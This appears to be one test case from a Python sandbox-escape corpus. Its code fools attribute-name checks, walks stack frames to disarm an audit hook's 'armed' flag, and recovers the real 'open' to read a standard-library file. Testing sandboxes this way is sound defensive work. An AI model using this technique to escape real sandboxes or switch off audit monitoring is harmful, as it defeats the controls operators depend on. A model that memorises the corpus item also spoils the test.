# technique: from the frames above the snippet (through the gadget), clear the runtime layer's audit state ('armed') and use the real builtins' open on a stdlib file
# source: sandbox design flaw class: Python-level audit hook state reachable from sandboxed code
# note: the disarming step applies to a sandbox's Python audit hook state; in plain CPython only the open step runs

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import abc, collections, dataclasses, functools


def pub(mod, name):
    """mod.<name> for a name held as data: a namedtuple's __match_args__ is
    its field names, and an ABC registered for the module type matches."""
    N = collections.namedtuple('N', [name])

    class P(N, abc.ABC):
        pass
    P.register(type(mod))
    match mod:
        case P(v):
            return v
    raise AttributeError(name)


class S(str):
    """A str whose equality says yes to anything: name checks that compare
    with == (or look a name up in a tuple) are fooled, getattr is not."""
    def __eq__(self, other):
        return True

    def __hash__(self):
        return str.__hash__(self)


got = []


def cap(self, k, v):
    got.append(v)

update_wrapper = pub(functools, 'update_wrapper')
Sink = pub(dataclasses, 'make_dataclass')('Sink', [], namespace={dn('setattr'): cap})


def ga(obj, name):
    """getattr(obj, name) through functools.update_wrapper."""
    got.clear()
    update_wrapper(Sink(), obj, assigned=(S(name),), updated=())
    if not got:
        raise AttributeError(name)
    return got[0]


import json


def frames_up():
    holder = []

    def gen():
        fr = ga(holder[0], 'gi_frame')
        out = []
        while fr is not None:
            out.append(fr)
            fr = ga(fr, 'f_back')
        yield out
    g = gen()
    holder.append(g)
    return next(g)


def via():
    real_open = None
    for fr in frames_up():
        for k, v in list(ga(fr, 'f_locals').items()):
            if type(v).__name__ == '_Audit':
                v.armed = False
        b = ga(fr, 'f_builtins')
        if 'open' in b:
            real_open = b['open']
    if real_open is None:
        raise LookupError('no frame with the real open')
    path = ga(ga(json.dumps, dn('code')), 'co_filename')
    with real_open(path) as fh:
        first = fh.readline()
    print('ESCAPED real open read', path, '->', first.strip()[:60])
    return real_open

attempt('disarm + real open', via)
